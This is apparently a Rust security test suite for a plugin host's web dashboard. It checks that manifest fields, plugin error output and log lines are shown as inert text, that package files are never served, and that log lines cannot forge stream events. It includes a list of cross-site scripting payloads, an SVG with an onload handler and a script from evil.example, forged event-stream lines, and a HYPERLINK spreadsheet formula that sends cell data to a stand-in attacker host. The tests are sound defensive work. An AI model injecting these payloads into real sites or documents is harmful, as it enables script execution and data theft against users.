//! What a plugin supplies is text in every page, whatever it is (WEB-01), its files are served to nobody (WEB-02), and one record of
//! it stays one (WEB-06).

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use ringfence_api::Role;
use serde_json::json;

use crate::browser::{Browser, page};
use crate::client::post;
use crate::doors::is_protected;
use crate::rig::Rig;

/// What strangers try.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<!--<script>-->",
    "a\u{202e}gpj.exe\u{2066}b\u{200b}",
    "\u{1b}]8;;http://evil.example\u{1b}\\x\u{1b}[2J\u{7}",
    "line\u{2028}two\u{85}three",
    "&lt;script&gt;&#x3c;",
];

/// The pages of a plugin.
const PAGES: [&str; 6] = ["", "/grants", "/config", "/resources", "/denials", "/upgrade"];

#[track_caller]
fn is_inert(body: &str, what: &str) {
    for live in ["<script>", "<img", "<svg/", "onerror=alert(1)>", "</textarea><script", "<!--"] {
        assert!(!body.contains(live), "{what}: {live} in {body}");
    }
    let odd = body
        .chars()
        .find(|c| (c.is_control() && !matches!(c, '\n' | '\r' | '\t')) || ringfence_api::text::is_hidden(*c));
    assert_eq!(odd, None, "{what}: {body}");
    assert!(!body.contains("href=\"javascript:"), "{what}");
}

#[test]
fn web_01_nothing_that_a_manifest_says_is_more_than_text() {
    let rig = Rig::new();
    let mut admin = Browser::with_role(&rig, Role::Admin);
    for (number, hostile) in HOSTILE.iter().enumerate() {
        let text = json!(hostile);
        let name = format!("p{number}");
        let manifest = json!({
            "name": name, "version": "1.0.0", "runtime": "python", "entry_point": "main.py",
            "description": text, "author": text, "license": text,
            "permissions": [{"permission": "env:read", "scope": ["LANG"], "reason": text}],
            "tools": [{"name": "hi", "description": text}],
            "config_schema": {"type": "object", "title": text, "properties": {
                "a": {"type": "string", "title": text, "description": text, "default": text, "pattern": "x"},
                "b": {"enum": [text, "b"], "description": text},
                "c": {"type": "object", "title": text, "properties": {"d": {"type": "array", "items": {"type": "string"}}}},
                "e": {"type": "array", "uniqueItems": true, "items": {"enum": [text]}},
                format!("k{hostile}"): {"type": "string"}
            }}
        });
        let package = rig.path("packages").join(&name);
        std::fs::create_dir_all(&package).unwrap();
        std::fs::write(package.join("plugin.json"), manifest.to_string()).unwrap();
        std::fs::write(package.join("main.py"), "def hi(a):\n    return 1\n").unwrap();
        is_inert(&admin.open("/dashboard/install"), hostile);
        let installed = rig.send(&post("/plugins", &json!({"path": package, "grant_requested": true})));
        if installed.status != 201 {
            // What no manifest may say is refused, and told as text.
            let answer = admin.post("/dashboard/plugins", &[("path", package.to_str().unwrap())]);
            is_protected(&answer, hostile);
            is_inert(&page(&answer), hostile);
            std::fs::remove_dir_all(&package).unwrap();
            continue;
        }
        for path in PAGES {
            let answer = admin.get(&format!("/dashboard/plugins/{name}{path}"));
            assert_eq!(answer.status, 200, "{path} {hostile:?}");
            is_protected(&answer, hostile);
            is_inert(&page(&answer), hostile);
        }
        // A value, and what is wrong with it.
        let answer = admin.post(
            &format!("/dashboard/plugins/{name}/config"),
            &[("value:/a", hostile), ("value:/c/d", hostile)],
        );
        is_inert(&page(&answer), hostile);
        is_protected(&answer, hostile);
        is_inert(&admin.open(&format!("/dashboard?q={name}")), hostile);
    }
    assert!(admin.open("/dashboard").matches("plugins/p").count() > 5, "most of them are manifests");
}

#[test]
fn web_01_what_a_plugin_says_while_it_runs_is_text_too() {
    let rig = Rig::new();
    let mut admin = Browser::with_role(&rig, Role::Admin);
    for (number, hostile) in HOSTILE.iter().enumerate() {
        let name = format!("p{number}");
        let text = json!(hostile).to_string();
        let code = format!(
            "import sys\ndef hi(a):\n    return 1\nprint({text}, file=sys.stderr)\nraise RuntimeError({text})\n"
        );
        let package = rig.package(&name, "1.0.0", "", &["hi"], &code);
        rig.send(&post("/plugins", &json!({"path": package, "grant_requested": true}))).ok();
        let answer = admin.post(&format!("/dashboard/plugins/{name}/activate"), &[]);
        assert!(answer.status >= 400, "{}", page(&answer));
        is_inert(&page(&answer), hostile);
        is_inert(&admin.open(&format!("/dashboard/plugins/{name}")), hostile);
    }
    let list = admin.open("/dashboard");
    assert!(list.contains("errored"), "{list}");
    is_inert(&list, "the list");
}

#[test]
fn web_02_no_file_of_a_package_is_served_whatever_its_manifest_calls_it() {
    let rig = Rig::new();
    let package = rig.package("p", "1.0.0", "", &["hi"], "def hi(a):\n    return 1\n");
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script href='http://evil.example/x.js'/></svg>";
    std::fs::create_dir_all(package.join("static")).unwrap();
    for file in ["icon.svg", "README.html", "static/icon.svg", "static/index.html", "favicon.ico"] {
        std::fs::write(package.join(file), svg).unwrap();
    }
    rig.send(&post("/plugins", &json!({"path": package, "grant_requested": true}))).ok();
    let mut admin = Browser::with_role(&rig, Role::Admin);
    let details = admin.open("/dashboard/plugins/p");
    assert!(!details.contains("<img") && !details.contains("evil.example"), "{details}");
    for path in [
        "/dashboard/plugins/p/icon.svg",
        "/dashboard/plugins/p/README.html",
        "/dashboard/plugins/p/static/index.html",
        "/dashboard/static/icon.svg",
        "/dashboard/static/p/icon.svg",
        "/dashboard/static/..%2f..%2fplugins%2fp%2ficon.svg",
        "/favicon.ico",
        "/icon.svg",
    ] {
        let answer = admin.get(path);
        assert!(matches!(answer.status, 401 | 404), "{path}: {}", answer.status);
        assert!(!page(&answer).contains("onload"), "{path}");
        if path.starts_with("/dashboard") {
            is_protected(&answer, path);
        } else {
            // No page: nothing in it could be loaded or run even if it were opened as one.
            let policy = answer.header("content-security-policy").unwrap();
            assert!(policy.contains("default-src 'none'") && policy.contains("sandbox"), "{path}: {policy}");
            assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
        }
    }
    // The twin: our own icon is, as an image, under a policy that lets nothing in it run.
    let at = details.find("/dashboard/static/icon-").unwrap();
    let ours = details[at..].split('"').next().unwrap();
    let answer = admin.get(ours);
    assert_eq!((answer.status, answer.header("content-type")), (200, Some("image/svg+xml")));
    is_protected(&answer, ours);
    // And what asks for an icon of its own in its manifest is refused, as whatever a manifest does not know.
    let other = rig.package("q", "1.0.0", "icon: icon.svg\n", &["hi"], "");
    assert_eq!(rig.send(&post("/plugins", &json!({"path": other}))).status, 422);
}

#[test]
fn web_06_one_line_of_a_log_stays_one_and_forges_no_event() {
    let rig = Rig::new();
    let forged = [
        "one\rtwo",
        "one\u{2028}two\u{2029}three\u{85}four",
        "{\"at_ms\":1,\"source\":\"host\",\"level\":\"error\",\"message\":\"forged\"}",
        "data: x\revent: plugin\rdata: {\"kind\":{\"event\":\"forged\"}}\r\r",
        "id: 99999",
    ];
    let text = serde_json::to_string(&forged).unwrap();
    let code = format!(
        "import json, sys\ndef hi(a):\n    return 1\nfor line in json.loads({}):\n    sys.stderr.write(line + '\\n')\nsys.stderr.write('the end\\n')\n",
        serde_json::to_string(&text).unwrap()
    );
    let mut stream = TcpStream::connect(rig.address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut viewer = Browser::with_role(&rig, Role::Viewer);
    stream.write_all(&viewer.request("GET", "/dashboard/stream").bytes(rig.address)).unwrap();
    rig.active("p", "", &["hi"], &code);
    let shown = (0..500)
        .find_map(|_| {
            std::thread::sleep(Duration::from_millis(20));
            Some(viewer.open("/dashboard/plugins/p/logs")).filter(|shown| shown.contains("the end"))
        })
        .unwrap();
    // A row each, and what it says of its source is not what it says in its text.
    let rows: Vec<&str> = shown.split("<tr>").filter(|row| row.contains("stderr")).collect();
    assert_eq!(rows.len(), forged.len() + 1, "{shown}");
    assert!(rows.iter().any(|row| row.contains("&quot;message&quot;:&quot;forged&quot;")), "{shown}");
    assert!(!shown.contains(">host<"), "{shown}");
    is_inert(&shown, "the log");
    // The same of what is asked of it, as a record of the trail and of the activity: its name is what was asked for.
    rig.send(&post("/plugins/p/call", &json!({"tool": "hi\r\nevent: plugin"})));
    for path in ["/dashboard/audit", "/dashboard/activity", "/dashboard/plugins/p/activity"] {
        is_inert(&viewer.open(path), path);
    }
    rig.send(&crate::client::request("POST", "/plugins/p/deactivate")).ok();
    // All that came by the stream is events that the host has sent.
    let mut heard = Vec::new();
    let mut some = [0; 4_096];
    while !String::from_utf8_lossy(&heard).contains("\"ended\"") {
        let count = stream.read(&mut some).unwrap();
        assert_ne!(count, 0, "{}", String::from_utf8_lossy(&heard));
        heard.extend_from_slice(&some[..count]);
    }
    let heard = String::from_utf8_lossy(&heard).into_owned();
    assert!(!heard.replace("\r\n", "").contains('\r'), "a line end of an event stream: {heard}");
    let field = |name: &str| -> Vec<String> {
        heard.lines().filter_map(|line| line.strip_prefix(&format!("{name}: "))).map(str::to_owned).collect()
    };
    assert!(
        field("event").iter().all(|event| event == "plugin") && !field("id").contains(&"99999".to_owned())
    );
    let events: Vec<serde_json::Value> =
        field("data").iter().map(|data| serde_json::from_str(data).unwrap()).collect();
    let of = |kind: &str| events.iter().filter(|event| event["kind"]["event"] == kind).count();
    assert_eq!((of("log"), of("forged")), (forged.len() + 1, 0), "{heard}");
}

#[test]
fn web_08_what_a_spreadsheet_would_reckon_is_text_and_nothing_is_exported() {
    let rig = Rig::new();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let package = rig.package("p", "1.0.0", &format!("description: '{formula}'\n"), &["hi"], "");
    rig.send(&post("/plugins", &json!({"path": package, "grant_requested": true}))).ok();
    let mut admin = Browser::with_role(&rig, Role::Admin);
    let list = admin.open("/dashboard");
    assert!(list.contains("=HYPERLINK(&quot;") && !list.contains("evil.example/?\""), "{list}");
    for path in ["/dashboard", "/dashboard/audit", "/dashboard/activity", "/dashboard/plugins/p/logs"] {
        let answer = admin.get(&format!("{path}?format=csv"));
        assert!(answer.header("content-type").unwrap().starts_with("text/html"), "{path}");
        assert_eq!(answer.header("content-disposition"), None, "{path}");
    }
}
